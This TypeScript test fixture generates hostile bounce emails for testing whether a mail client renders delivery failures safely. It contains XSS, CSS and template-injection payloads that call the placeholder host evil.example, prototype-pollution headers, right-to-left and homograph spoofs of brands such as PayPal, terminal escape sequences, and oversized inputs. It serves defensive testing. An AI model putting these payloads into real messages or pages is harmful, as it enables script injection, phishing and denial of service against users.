/**
 * Mails whose text attacks whoever shows it. Each is a proper bounce otherwise, so that it is found, explained and shown. Anything
 * that runs would set `PWNED` on the page or ask the host `EVIL` for something.
 */

export const PWNED = '__pwned';
export const EVIL = 'evil.example';

export interface HostileMail {
  name: string;
  source: string;
  /** The address to which it claims not to have been delivered. */
  recipient: string;
}

interface Parts {
  recipient?: string;
  subject?: string;
  from?: string;
  /** Reply of the remote server, on one line. */
  reply?: string;
  /** Further header lines. */
  header?: string;
  /** Further fields of the delivery-status part. */
  fields?: string;
  prose?: string;
  returned?: string;
}

const RUN = `window.${PWNED}=1;fetch('https://${EVIL}/ran')`;
const MARKUP = `<img src=https://${EVIL}/i.png onerror="${RUN}"><script>${RUN}</script><svg onload="${RUN}"><iframe srcdoc="<script>parent.${PWNED}=1</script>"></iframe>`;
const STYLE = `</style><style>*{display:none!important;background:url(https://${EVIL}/c.png)}</style><link rel=stylesheet href=https://${EVIL}/c.css>`;
const WORD = 'W'.repeat(100_000);

export const HOSTILE_MAILS: readonly HostileMail[] = [
  mail('markup', { recipient: `"<img/src=x/onerror=window.${PWNED}=1>"@${EVIL}`, subject: `Undelivered ${MARKUP}`, reply: `550 5.1.1 User unknown ${MARKUP}`, prose: MARKUP, returned: `Subject: ${MARKUP}` }),
  mail('script-addresses', { reply: `550 5.7.1 User unknown, see javascript:${RUN} or data:text/html,<script>${RUN}</script> or https://${EVIL}/login?token=1` }),
  mail('style', { subject: STYLE, reply: `552 5.2.2 mailbox full ${STYLE}`, prose: STYLE }),
  mail('breaking-out', { reply: `550 5.1.1 User unknown"'></div></template></textarea></title><!--<![CDATA[${MARKUP}]]>--> \${${RUN}} {{constructor.constructor('${RUN}')()}} %s {address}` }),
  mail('right-to-left', { recipient: 'marie\u202Egro.elpmaxe\u202C@example.org', subject: '\u202Etsiuqer deliaf\u202C', reply: '550 5.1.1 \u2067User unknown\u202E gro.elpmaxe@eiram \u2066\u200F\u061C' }),
  mail('homograph', { recipient: 'support@gm\u0430il.com', from: 'Mail Delivery Subsystem <mailer-daemon@googlem\u0430il.com>', reply: '550 5.1.1 p\u0430ypal.com: user unknown at \u043Er\u0430nge.fr' }),
  mail('long-words', { recipient: `${'m'.repeat(60_000)}@${'d'.repeat(40_000)}.example`, subject: WORD, reply: `550 5.1.1 ${WORD} User unknown`, prose: WORD }),
  mail('prototype-names', {
    recipient: '__proto__@constructor.prototype',
    header: ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf', '__defineGetter__'].map((name) => `${name}: ${PWNED}\r\n`).join(''),
    fields: `__proto__: ${PWNED}\r\nconstructor: ${PWNED}\r\ntoString: ${PWNED}\r\n`,
    reply: '550 __proto__ constructor hasOwnProperty User unknown',
  }),
  mail('no-numbers', { fields: 'Status: 9.999999999999999999999.1e308\r\nAction: __proto__\r\n', reply: '999 -1.-1.-1 NaN Infinity 0x550 User unknown' }),
  mail('control-characters', { subject: 'Undelivered \u0000\u0007\u001B[2J\u0008\u0085\u2028\u2029\uFEFF\uFFFE', reply: '550 5.1.1 User\u0000unknown \u001B]8;;https://evil.example\u0007click\u001B]8;;\u0007' }),
  mail('stacked-marks', { subject: `Z${'\u0315\u0301\u0489'.repeat(5_000)}`, reply: `550 5.1.1 User unknown ${'\u0489'.repeat(20_000)}` }),
  mail('many-headers', { header: Array.from({ length: 20_000 }, (_, index) => `X-Field-${index}: ${index}\r\n`).join('') }),
  mail('many-recipients', { fields: Array.from({ length: 5_000 }, (_, index) => `\r\nFinal-Recipient: rfc822; p${index}@example.org\r\nAction: failed\r\nStatus: 5.1.1\r\n`).join('') }),
  { name: 'nested-parts', recipient: 'marie@example.org', source: nested(2_000) },
];

function mail(name: string, parts: Parts): HostileMail {
  const recipient = parts.recipient ?? 'marie@example.org';
  const reply = parts.reply ?? '550 5.1.1 User unknown';
  const source = `Return-Path: <>
From: ${parts.from ?? 'Mail Delivery System <MAILER-DAEMON@mail.example.net>'}
To: Camille Martin <camille.martin@gmail.com>
Subject: ${parts.subject ?? 'Undelivered Mail Returned to Sender'}
Date: Mon, 16 Nov 2026 08:00:00 +0000
Message-ID: <hostile-${name}@mail.example.net>
${parts.header ?? ''}MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="=_hostile"

--=_hostile
Content-Type: text/plain; charset=utf-8

This is the mail system at host mail.example.net.

I'm sorry to have to inform you that your message could not be delivered.
${parts.prose ?? ''}

<${recipient}>: host mx.example.org[192.0.2.1] said: ${reply} (in reply to RCPT TO command)

--=_hostile
Content-Type: message/delivery-status

Reporting-MTA: dns; mail.example.net

Final-Recipient: rfc822; ${recipient}
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.example.org
Diagnostic-Code: smtp; ${reply}
${parts.fields ?? ''}
--=_hostile
Content-Type: text/rfc822-headers

From: camille.martin@gmail.com
To: ${recipient}
${parts.returned ?? 'Subject: Photos'}

--=_hostile--
`.replaceAll(/\r?\n/g, '\r\n');
  return { name, source, recipient };
}

/** A mail in a mail in a mail, each in a part of its own. */
function nested(depth: number): string {
  const open = Array.from({ length: depth }, (_, level) => `Content-Type: multipart/mixed; boundary="b${level}"\r\n\r\n--b${level}\r\n`).join('');
  return `From: MAILER-DAEMON@mail.example.net\r\nTo: camille.martin@gmail.com\r\nSubject: failure notice\r\nDate: Mon, 16 Nov 2026 08:00:00 +0000\r\n${open}`
    + 'Content-Type: text/plain\r\n\r\n<marie@example.org>: host mx.example.org said: 550 5.1.1 User unknown\r\n';
}
